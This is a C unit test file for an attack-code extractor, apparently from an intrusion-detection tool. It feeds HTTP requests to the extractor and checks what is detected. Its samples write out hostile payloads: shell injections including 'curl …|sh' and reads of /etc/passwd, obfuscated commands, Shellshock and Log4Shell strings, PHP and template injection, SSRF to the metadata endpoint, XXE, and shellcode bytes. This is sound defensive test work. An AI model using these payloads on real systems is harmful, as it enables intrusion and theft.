/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Attack code out of requests: what is found, as which language, in which context, and what is not. */
#include "control/extract/command.h"
#include "control/extract/extract.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "tests/unit/extract_sample.h"

static void what_stands_behind_a_delimiter_is_the_code(void **state)
{
	static const struct sample samples[] = {
		{ HEAD("/p?ip=127.0.0.1%3Bid"), LANGUAGE_SHELL, "id", CONTEXT_AFTER, SINK_RESOURCE },
		{ HEAD("/p?ip=127.0.0.1;id"), LANGUAGE_SHELL, "id", CONTEXT_AFTER, SINK_RESOURCE },
		{ HEAD("/p?ip=x%7Cid"), LANGUAGE_SHELL, "id", CONTEXT_PIPED_INTO, SINK_RESOURCE },
		{ HEAD("/p?ip=1%26%26uname+-a"), LANGUAGE_SHELL, "uname -a", CONTEXT_IF_SUCCESS, SINK_RESOURCE },
		{ HEAD("/p?ip=1%7C%7Cls%20/"), LANGUAGE_SHELL, "ls /", CONTEXT_IF_FAILURE, SINK_RESOURCE },
		{ HEAD("/p?file=id%7C"), LANGUAGE_SHELL, "id", CONTEXT_ALONE, SINK_RESOURCE },
		{ HEAD("/p?file=uname%20-a%20%7C"), LANGUAGE_SHELL, "uname -a", CONTEXT_ALONE, SINK_RESOURCE },
		{ HEAD("/p?ip=host%0Aid"), LANGUAGE_SHELL, "id", CONTEXT_AFTER, SINK_RESOURCE },
		{ HEAD("/p?ip=host%3Bdate%20%2B%25s%20%3E/dev/null"), LANGUAGE_SHELL, "date +%s >/dev/null", CONTEXT_AFTER, SINK_RESOURCE },
		{ HEAD("/p?ip=1%0Acat%20/etc/passwd"), LANGUAGE_SHELL, "cat /etc/passwd", CONTEXT_AFTER, SINK_RESOURCE },
		{ HEAD("/p?ip=%24(whoami)"), LANGUAGE_SHELL, "whoami", CONTEXT_SUBSTITUTION, SINK_RESOURCE },
		{ HEAD("/p?ip=%60sleep%205%60"), LANGUAGE_SHELL, "sleep 5", CONTEXT_SUBSTITUTION, SINK_RESOURCE },
		{ HEAD("/p?host=localhost%0Aid"), LANGUAGE_SHELL, "id", CONTEXT_AFTER, SINK_RESOURCE },
		{ FORM("email=a%40b;curl http://198.51.100.1/x|sh"), LANGUAGE_SHELL, "curl http://198.51.100.1/x|sh",
		  CONTEXT_AFTER, SINK_RESOURCE },
		{ "POST /l HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n7\r\nip=1%3B\r\n2\r\nid\r\n0\r\n\r\n", LANGUAGE_SHELL, "id",
		  CONTEXT_AFTER, SINK_RESOURCE },
		{ "POST /j HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"h\":\"1\\u003bid\"}", LANGUAGE_SHELL, "id",
		  CONTEXT_AFTER, SINK_RESOURCE },
	};

	expect_all(samples, COUNT_OF(samples));
}

static void quotes_of_the_carriers_command_line_are_broken_out_of(void **state)
{
	static const struct sample samples[] = {
		{ HEAD("/p?ip=a';id;'"), LANGUAGE_SHELL, "id", CONTEXT_AFTER, SINK_RESOURCE },
		{ HEAD("/p?ip=a\";id;echo%20\"x"), LANGUAGE_SHELL, "id;echo \"x\"", CONTEXT_AFTER, SINK_RESOURCE },
		{ HEAD("/p?ip=a'$(id)'"), LANGUAGE_SHELL, "id", CONTEXT_SUBSTITUTION, SINK_RESOURCE },
	};

	expect_all(samples, COUNT_OF(samples));
}

static void disguised_commands_are_still_commands(void **state)
{
	static const struct sample samples[] = {
		{ HEAD("/p?x=1;c''at${IFS}/etc/hosts"), LANGUAGE_SHELL, "c''at${IFS}/etc/hosts", CONTEXT_AFTER, SINK_RESOURCE },
		{ HEAD("/p?x=1;/?b?n/c?t%20/etc/hosts"), LANGUAGE_SHELL, "/?b?n/c?t /etc/hosts", CONTEXT_AFTER, SINK_RESOURCE },
		{ HEAD("/p?x=1;X=$'uname%20-a';$X"), LANGUAGE_SHELL, "X=$'uname -a';$X", CONTEXT_AFTER, SINK_RESOURCE },
		{ HEAD("/p?x=1%253Bwhoami"), LANGUAGE_SHELL, "whoami", CONTEXT_AFTER, SINK_RESOURCE },
		{ HEAD("/p?x=1%3B$(echo%20id)"), LANGUAGE_SHELL, "$(echo id)", CONTEXT_AFTER, SINK_RESOURCE },
		{ HEAD("/p?x=1%7C`echo%20id`"), LANGUAGE_SHELL, "`echo id`", CONTEXT_PIPED_INTO, SINK_RESOURCE },
		{ HEAD("/p?x=%0D%0Aid%0D%0A"), LANGUAGE_SHELL, "id", CONTEXT_AFTER, SINK_RESOURCE },
		{ HEAD("/p?x=%3B%7Bcat,/etc/passwd%7D"), LANGUAGE_SHELL, "{cat,/etc/passwd}", CONTEXT_AFTER, SINK_RESOURCE },
		{ HEAD("/p?x=MTI3LjAuMC4xO2lk"), LANGUAGE_SHELL, "id", CONTEXT_AFTER, SINK_RESOURCE },
	};

	expect_all(samples, COUNT_OF(samples));
}

static void whole_values_are_commands_where_they_are_asked_for(void **state)
{
	static const struct sample samples[] = {
		{ HEAD("/s.php?cmd=id"), LANGUAGE_SHELL, "id", CONTEXT_ALONE, SINK_RESOURCE },
		{ HEAD("/s.asp?cmd=ipconfig+/all"), LANGUAGE_CMD, "ipconfig /all", CONTEXT_ALONE, SINK_RESOURCE },
		{ HEAD("/q?x=1%26powershell.exe+-enc+aQBkAA=="), LANGUAGE_CMD, "powershell.exe -enc aQBkAA==", CONTEXT_AFTER | CONTEXT_BACKGROUND, SINK_RESOURCE },
		{ HEAD("/q?x=1%7CC:%5CWindows%5CSystem32%5CCMD.exe+/c+dir"), LANGUAGE_CMD, "C:\\Windows\\System32\\CMD.exe /c dir", CONTEXT_PIPED_INTO, SINK_RESOURCE },
		{ HEAD("/s.php?q=cat%20/etc/passwd"), LANGUAGE_SHELL, "cat /etc/passwd", CONTEXT_ALONE, SINK_RESOURCE },
		{ HEAD("/s.php?sort=date"), 0, NULL, 0, 0 },
		{ "POST /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1\r\nHost: x\r\n\r\necho; id", LANGUAGE_SHELL, "echo; id",
		  CONTEXT_ALONE, SINK_RESOURCE },
	};

	expect_all(samples, COUNT_OF(samples));
}

static void values_beyond_the_bound_are_counted(void **state)
{
	static const char head[] = "GET /p?x=;id";
	enum { FIELDS = 1200 };
	char *request = malloc(sizeof(head) + FIELDS * 4 + 32);
	struct extraction *e = NULL;
	size_t len = sizeof(head) - 1;

	memcpy(request, head, len);
	for (unsigned i = 0; i < FIELDS; i++, len += 4)
		memcpy(request + len, "&a=1", 4);
	memcpy(request + len, " HTTP/1.1\r\n\r\n", 13);
	assert_int_equal(extract_bytes(bytes_of(request, len + 13), &e), 0);
	assert_int_equal(e->count, 1);
	assert_true(e->left > 0);
	extraction_free(e);
	free(request);
}

static void ordinary_text_is_no_command(void **state)
{
	static const struct sample samples[] = {
		{ HEAD("/p?x=/SEARCH/HANDMADE?Q=%22MOD%22%26PAGE=3"), 0, NULL, 0, 0 },
		{ HEAD("/p?x=1;+exec+will+create+the+case+7"), 0, NULL, 0, 0 },
		{ FORM("x=imports%0Aif+__name__+%3D%3D+%22__main__%22%3A%0A++++print(where())"), 0, NULL, 0, 0 },
		{ FORM("x=options+%3D%0A{%22help%22,+no_argument,+0},%0A{%22version%22,+1}"), 0, NULL, 0, 0 },
		{ FORM("x=Example:%0A```python%0Aimport+httplib2%0Ah+=+Http(%22.cache%22)%0A```%0Aand+so+on"), 0, NULL, 0, 0 },
		{ FORM("x=AT%26T;+cat+%26+dog"), 0, NULL, 0, 0 },
		{ HEAD("/p?x=Date+%7C"), 0, NULL, 0, 0 },
		{ HEAD("/p?x=home+%7C+find+%7C"), 0, NULL, 0, 0 },
		{ FORM("x=;top+Something+else+1+The+title.+After+more+words"), 0, NULL, 0, 0 },
		{ HEAD("/p?x=1;/tmp/.x/run+-d"), LANGUAGE_SHELL, "/tmp/.x/run -d", CONTEXT_AFTER, SINK_RESOURCE },
		{ HEAD("/p?x=1;/u*r/b?n/id"), LANGUAGE_SHELL, "/u*r/b?n/id", CONTEXT_AFTER, SINK_RESOURCE },
		{ HEAD("/p?x=1;sudo+-l"), LANGUAGE_SHELL, "sudo -l", CONTEXT_AFTER, SINK_RESOURCE },
		/* a whole command line, and another one behind it */
		{ HEAD("/p?x=host+192.0.2.7%3Bid"), LANGUAGE_SHELL, "id", CONTEXT_AFTER, SINK_RESOURCE },
	};

	expect_all(samples, COUNT_OF(samples));
}

static void code_in_headers_does_not_hang_on_the_resource(void **state)
{
	static const struct sample samples[] = {
		{ "GET /c HTTP/1.1\r\nUser-Agent: () { :;}; ping -c1 192.0.2.1\r\n\r\n", LANGUAGE_SHELL, "ping -c1 192.0.2.1",
		  CONTEXT_AFTER, SINK_HEADER },
		{ "GET /c HTTP/1.1\r\nX: () { _; } >_[$($())] { id; }\r\n\r\n", LANGUAGE_SHELL, "id;", CONTEXT_AFTER,
		  SINK_HEADER },
		{ HEAD("/?a=${jndi:ldap://192.0.2.1/x}"), LANGUAGE_JNDI, "${jndi:ldap://192.0.2.1/x}", CONTEXT_ALONE,
		  SINK_HEADER },
		{ HEAD("/?a=%3C?=`id`?%3E"), LANGUAGE_PHP, "<?=`id`?>", CONTEXT_ALONE, SINK_HEADER },
		{ "GET / HTTP/1.1\r\nUser-Agent: ${${::-j}${lower:n}d${env:NO:-i}:ldap://h/x}\r\n\r\n", LANGUAGE_JNDI,
		  "${${::-j}${lower:n}d${env:NO:-i}:ldap://h/x}", CONTEXT_ALONE, SINK_HEADER },
		/* a log that is included later runs it; in a body only the resource does */
		/* of a path an application takes the part for its value that the code stands in */
		{ HEAD("/hello/to/dear%20%7B%7B7*7%7D%7D/now"), LANGUAGE_TEMPLATE, "dear {{7*7}}", CONTEXT_ALONE, SINK_HEADER },
		{ HEAD("/hello/%7B%7B14/2%7D%7D"), LANGUAGE_TEMPLATE, "{{14/2}}", CONTEXT_ALONE, SINK_HEADER },
		{ HEAD("/missing?%3C?php%20system('id');"), LANGUAGE_PHP, "<?php system('id');", CONTEXT_ALONE, SINK_HEADER },
		{ "POST /eval-stdin.php HTTP/1.1\r\n\r\n<?php system('id');", LANGUAGE_PHP, "<?php system('id');",
		  CONTEXT_ALONE, SINK_RESOURCE },
	};

	expect_all(samples, COUNT_OF(samples));
}

static void commands_that_no_shell_starts_are_quiet(void **state)
{
	static const struct sample samples[] = {
		{ HEAD("/p?ip=10.0.0.1uname%20-a"), LANGUAGE_SHELL, "uname -a", 0, SINK_RESOURCE },
		{ HEAD("/p?ip=10.0.0.1%5Eid"), LANGUAGE_SHELL, "id", 0, SINK_RESOURCE },
		{ HEAD("/p?ip=10.0.0.1%5EX%3D%24%27id%27%3B%24X"), LANGUAGE_SHELL, "X=$'id';$X", 0, SINK_RESOURCE },
		/* some program may take it for a line's end */
		{ HEAD("/p?ip=10.0.0.1%0Duname%20-a"), LANGUAGE_SHELL, "uname -a", CONTEXT_AFTER, SINK_RESOURCE },
	};

	expect_all(samples, COUNT_OF(samples));
	for (size_t i = 0; i < COUNT_OF(samples); i++) {
		struct extraction *e = NULL;

		assert_int_equal(extract_bytes(bytes_text(samples[i].request), &e), 0);
		for (unsigned c = 0; c < e->count; c++) {
			assert_true(e->codes[c].quiet);
			assert_int_equal(e->codes[c].contexts, samples[i].contexts);
		}
		extraction_free(e);
	}
}

static bool nowhere(const char *value)
{
	return command_starts_nowhere(bytes_text(value));
}

/* The others are those that a shell was seen to start something of, in one of the three quotings (tests/native/misplaced.py). */
static void what_starts_nowhere_starts_in_no_quoting(void **state)
{
	assert_true(nowhere("10.0.0.1ls -la /"));
	assert_true(nowhere("10.0.0.1^X=$\"id\";$X"));
	assert_true(nowhere("10.0.0.1'echo $((7*7))'"));
	assert_true(nowhere("10.0.0.1<cat /etc/passwd;"));
	assert_false(nowhere("ls -la /"));
	assert_false(nowhere("/bin/ls"));
	assert_false(nowhere("X=id;$X"));
	assert_false(nowhere("1;X=id;$X"));
	assert_false(nowhere("1^X=id;$X -a"));
	assert_false(nowhere("1;${X}id"));
	assert_false(nowhere("1^id\rid"));
	assert_false(nowhere("1$(id)"));
	assert_false(nowhere("1`id`"));
	assert_false(nowhere("1<(id)"));
	assert_false(nowhere("1 x>y"));
	assert_false(nowhere("1'|id|'"));
	assert_false(nowhere("1\"$((x[$(id)]))\""));
	assert_false(nowhere("1^\\';id;'"));
}

static void ordinary_text_gives_nothing(void **state)
{
	static const struct sample samples[] = {
		{ HEAD("/q?q=fish+%26+chips"), 0, NULL, 0, 0 },
		{ HEAD("/q?q=find+%26+replace"), 0, NULL, 0, 0 },
		{ HEAD("/q?q=I+tried;+then+more+of+it"), 0, NULL, 0, 0 },
		{ HEAD("/q?q=use+%60ls+-la%60+to+list+all+files"), 0, NULL, 0, 0 },
		{ HEAD("/q?q=log4j+and+jndi:+a+history+of+${}"), 0, NULL, 0, 0 },
		{ "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko\r\n"
		  "Accept: text/html;q=0.9, */*;q=0.1\r\nCookie: id=5; date=1; w=2\r\n\r\n", 0, NULL, 0, 0 },
		{ FORM("name=O%27Brien+%26+sons&note=at+noon;+who+comes%3F"), 0, NULL, 0, 0 },
	};

	expect_all(samples, COUNT_OF(samples));
}

static void code_of_templates_is_found_whatever_its_delimiters(void **state)
{
	static const struct sample samples[] = {
		{ FORM("t=%3C%25%3D%20%60id%60%20%25%3E"), LANGUAGE_TEMPLATE, "<%= `id` %>", CONTEXT_ALONE, SINK_RESOURCE },
		{ FORM("t=%3C%25-%20process.version%20%25%3E"), LANGUAGE_TEMPLATE, "<%- process.version %>", CONTEXT_ALONE, SINK_RESOURCE },
		{ FORM("t=%3C%25%0Aimport%20os%0Ax%3Dos.popen(%27id%27).read()%0A%25%3E$%7Bx%7D"), LANGUAGE_TEMPLATE, "<%\nimport os\nx=os.popen('id').read()\n%>${x}", CONTEXT_ALONE,
		  SINK_RESOURCE },
		{ FORM("t=%23set($a%3D(3*4))$a"), LANGUAGE_TEMPLATE, "#set($a=(3*4))$a", CONTEXT_ALONE, SINK_RESOURCE },
		{ FORM("t=%5B%3D%22a.b.C%22?new()(%22id%22)%5D"), LANGUAGE_TEMPLATE, "[=\"a.b.C\"?new()(\"id\")]", CONTEXT_ALONE, SINK_RESOURCE },
		{ FORM("t=%7Bmath equation%3D%223*4%22%7D"), LANGUAGE_TEMPLATE, "{math equation=\"3*4\"}", CONTEXT_ALONE, SINK_RESOURCE },
		{ FORM("t=$%7Bnew File(%27/etc/passwd%27).text%7D"), LANGUAGE_TEMPLATE, "${new File('/etc/passwd').text}", CONTEXT_ALONE, SINK_RESOURCE },
		{ FORM("t=less+%3C%25+than+5%25%3E+of+it"), 0, NULL, 0, 0 },
		{ FORM("t=Is+it+new?+Yes+%23set+a"), 0, NULL, 0, 0 },
		{ FORM("t=Dear+%7B%7B+user.name+%7D%7D,+hello"), 0, NULL, 0, 0 },
	};

	expect_all(samples, COUNT_OF(samples));
}

/* The pattern of a server's log is a page, with the request's headers in it, under the name that the other parameters make. */
static void a_log_that_parameters_turn_into_a_page_is_an_upload(void **state)
{
	static const char request[] = "POST /a HTTP/1.1\r\nOpen: <%\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
	    "class.module.classLoader.a.pattern=%25%7Bopen%7Di+out.print(1%2B1);%25%25%3E&class.module.classLoader.a.suffix=.jsp&class.module.classLoader.a.prefix=q7";
	static const struct sample samples[] = {
		{ request, LANGUAGE_JAVA, "<% out.print(1+1);%%>", CONTEXT_ALONE, SINK_HEADER },
		{ HEAD("/a?class.module.classLoader.a.configFile=http://a.example/b"), LANGUAGE_URL, "http://a.example/b", CONTEXT_ALONE, SINK_RESOURCE },
		{ FORM("class.name=b&pattern=c&class.module=d"), 0, NULL, 0, 0 },
	};
	struct extraction *e = NULL;

	expect_all(samples, COUNT_OF(samples));
	assert_int_equal(extract_bytes(bytes_text(request), &e), 0);
	assert_string_equal(e->codes[0].file, "q7.jsp");
	assert_string_equal(e->codes[0].class_name, "upload");
	extraction_free(e);
}

static void a_code_tells_where_it_stood_and_how_it_was_written(void **state)
{
	static const char request[] = HEAD("/p?a=b&ip=1%253Bid");
	struct extraction *e = NULL;

	assert_int_equal(extract_bytes(bytes_text(request), &e), 0);
	assert_int_equal(e->count, 1);
	assert_string_equal(e->codes[0].where, "http.uri");
	assert_string_equal(e->codes[0].parameter, "ip");
	assert_int_equal(e->codes[0].layers_count, 2);
	assert_string_equal(e->codes[0].layers[0], "url");
	assert_string_equal(e->codes[0].layers[1], "url");
	assert_memory_equal(request + e->codes[0].offset, "1%253Bid", 8);
	assert_true(bytes_equal(e->codes[0].value, bytes_text("1;id")));
	extraction_free(e);
}

/* Pictures and archives hold every short sequence of bytes by chance. */
static void uploads_of_noise_give_nothing(void **state)
{
	static const char head[] = "POST /up HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=B\r\n\r\n"
				   "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.jpg\"\r\n\r\n";
	static char request[sizeof(head) + (96 << 10)];
	uint64_t chance = 88172645463325252;

	memcpy(request, head, sizeof(head) - 1);
	for (unsigned n = 0; n < 60; n++) {
		struct extraction *e = NULL;

		for (size_t i = sizeof(head) - 1; i < sizeof(request); i++) {
			chance ^= chance << 13;
			chance ^= chance >> 7;
			chance ^= chance << 17;
			request[i] = (char)(chance >> 32);
		}
		/* what a rule would have caught by chance */
		memcpy(request + sizeof(head) + 2000, n % 2 == 0 ? "<?=" : "${jndi", n % 2 == 0 ? 3 : 6);
		assert_int_equal(extract_bytes(bytes_of(request, sizeof(request)), &e), 0);
		if (e->count > 0)
			fail_msg("upload %u gave %u codes, the first in language %d", n, e->count, (int)e->codes[0].language);
		extraction_free(e);
	}
}

static void hostile_requests_stay_within_bounds(void **state)
{
	static char request[300000];
	struct extraction *e = NULL;
	int len = snprintf(request, sizeof(request), "GET /?a=");

	for (size_t i = (size_t)len; i + 1 < sizeof(request); i++)
		request[i] = "$(`;&${j"[i % 8];
	assert_int_equal(extract_bytes(bytes_of(request, sizeof(request) - 1), &e), 0);
	assert_true(e->count <= EXTRACT_CODES_MAX);
	extraction_free(e);
}

static void bytes_that_are_no_text_may_be_machine_code(void **state)
{
	/* by its parameter, and by what a C string in between must not hold: nothing of it is run here */
	static const struct sample samples[] = {
		{ HEAD("/p?n=%90%90%90%90%31%c0%31%db%b0%01%cd%80%90"), LANGUAGE_MACHINE,
		  "\x90\x90\x90\x90\x31\xc0\x31\xdb\xb0\x01\xcd\x80\x90", CONTEXT_ALONE, SINK_RESOURCE },
		{ "\x90\x90\x90\x90\x31\xc0\x31\xdb\xb0\x01\xcd\x80\x90", LANGUAGE_MACHINE,
		  "\x90\x90\x90\x90\x31\xc0\x31\xdb\xb0\x01\xcd\x80\x90", CONTEXT_ALONE, SINK_STREAM },
		{ HEAD("/p?n=gr%c3%bc%c3%9fe+an+die+%c3%84mter"), 0, NULL, 0, 0 },
		{ HEAD("/p?n=%fc%df"), 0, NULL, 0, 0 },
	};

	expect_all(samples, COUNT_OF(samples));
}

/* A stream of three packets: code, a command half a second later, and one more after the server's answer. */
static void machine_code_ends_where_the_client_waits(void **state)
{
	static const char stream[] = "\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\x90\xccid\nexit\n";
	static const struct segment_mark client[] = { { 0, 4, 1000000000 }, { 13, 6, 1500000000 }, { 16, 9, 1500900000 } };
	static const struct segment_mark server[] = { { 0, 8, 1500500000 } };
	struct case_record record = { .app = APP_UNKNOWN };
	struct extraction *e = NULL;
	struct bytes said;

	record.parts[PART_CLIENT_STREAM] = (struct case_part){ .present = true, .head = bytes_text(stream), .marks_count = 3,
		.marks = client };
	record.parts[PART_SERVER_STREAM] = (struct case_part){ .present = true, .marks_count = 1, .marks = server };
	assert_int_equal(extract_case(&record, NULL, &e), 0);
	assert_int_equal(e->count, 1);
	assert_int_equal(e->codes[0].language, LANGUAGE_MACHINE);
	assert_int_equal(e->codes[0].text.left, 13);
	said = extract_said_after(&record, &e->codes[0]);
	assert_true(bytes_equal(said, bytes_text("id\nexit\n")));
	extraction_free(e);
}

static void urls_that_no_application_hands_on_are_code(void **state)
{
	static const struct sample samples[] = {
		{ HEAD("/f?url=http%3A%2F%2F127.0.0.1%3A22"), LANGUAGE_URL, "http://127.0.0.1:22", CONTEXT_ALONE, SINK_RESOURCE },
		{ HEAD("/f?url=http://2130706433/"), LANGUAGE_URL, "http://2130706433/", CONTEXT_ALONE, SINK_RESOURCE },
		{ HEAD("/f?page=php://filter/convert.base64-encode/resource=index.php"), LANGUAGE_URL,
		  "php://filter/convert.base64-encode/resource=index.php", CONTEXT_ALONE, SINK_RESOURCE },
		{ HEAD("/f?page=data:text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8%2B"), LANGUAGE_PHP, "<?php system('id');?>",
		  CONTEXT_ALONE, SINK_RESOURCE },
		{ HEAD("/proxy/http://169.254.169.254/latest"), LANGUAGE_URL, "http://169.254.169.254/latest", CONTEXT_ALONE, SINK_RESOURCE },
		{ HEAD("/f?url=http://shop/page"), 0, NULL, 0, 0 },
		{ HEAD("/f?avatar=data:image/png;base64,iVBORw0KGgo="), 0, NULL, 0, 0 },
	};

	expect_all(samples, sizeof(samples) / sizeof(samples[0]));
}

static void files_are_named_in_many_ways(void **state)
{
	static const struct sample samples[] = {
		{ HEAD("/f?page=C%3A%5CWindows%5Cwin.ini"), LANGUAGE_PATH, "C:\\Windows\\win.ini", CONTEXT_ALONE, SINK_RESOURCE },
		{ HEAD("/f?page=/srv/.bash_history"), LANGUAGE_PATH, "/srv/.bash_history", CONTEXT_ALONE, SINK_RESOURCE },
		{ HEAD("/f?file=C%3A%5Cfakepath%5Cphoto.jpg"), 0, NULL, 0, 0 },
		{ HEAD("/f?next=/account/orders"), 0, NULL, 0, 0 },
	};

	expect_all(samples, sizeof(samples) / sizeof(samples[0]));
}

static void documents_that_declare_entities_are_code(void **state)
{
#define XML(body) "POST /x HTTP/1.1\r\nContent-Type: text/xml\r\n\r\n" body
#define IN_BAND "<?xml version='1.0'?><!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><r>&x;</r>"
	static const struct sample samples[] = {
		{ XML(IN_BAND), LANGUAGE_XML, IN_BAND, CONTEXT_ALONE, SINK_RESOURCE },
		{ XML("<!DOCTYPE r SYSTEM 'http://198.51.100.9/e'><r/>"), LANGUAGE_XML, "<!DOCTYPE r SYSTEM 'http://198.51.100.9/e'><r/>",
		  CONTEXT_ALONE, SINK_RESOURCE },
		{ XML("<?xml version='1.0'?><order><item>rope</item></order>"), 0, NULL, 0, 0 },
		{ XML("<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd'><svg/>"), 0, NULL, 0, 0 },
	};

	expect_all(samples, sizeof(samples) / sizeof(samples[0]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(urls_that_no_application_hands_on_are_code),
		cmocka_unit_test(files_are_named_in_many_ways),
		cmocka_unit_test(documents_that_declare_entities_are_code),
		cmocka_unit_test(what_stands_behind_a_delimiter_is_the_code),
		cmocka_unit_test(bytes_that_are_no_text_may_be_machine_code),
		cmocka_unit_test(machine_code_ends_where_the_client_waits),
		cmocka_unit_test(quotes_of_the_carriers_command_line_are_broken_out_of),
		cmocka_unit_test(disguised_commands_are_still_commands),
		cmocka_unit_test(whole_values_are_commands_where_they_are_asked_for),
		cmocka_unit_test(ordinary_text_is_no_command),
		cmocka_unit_test(values_beyond_the_bound_are_counted),
		cmocka_unit_test(code_in_headers_does_not_hang_on_the_resource),
		cmocka_unit_test(commands_that_no_shell_starts_are_quiet),
		cmocka_unit_test(what_starts_nowhere_starts_in_no_quoting),
		cmocka_unit_test(ordinary_text_gives_nothing),
		cmocka_unit_test(code_of_templates_is_found_whatever_its_delimiters),
		cmocka_unit_test(a_log_that_parameters_turn_into_a_page_is_an_upload),
		cmocka_unit_test(a_code_tells_where_it_stood_and_how_it_was_written),
		cmocka_unit_test(uploads_of_noise_give_nothing),
		cmocka_unit_test(hostile_requests_stay_within_bounds),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
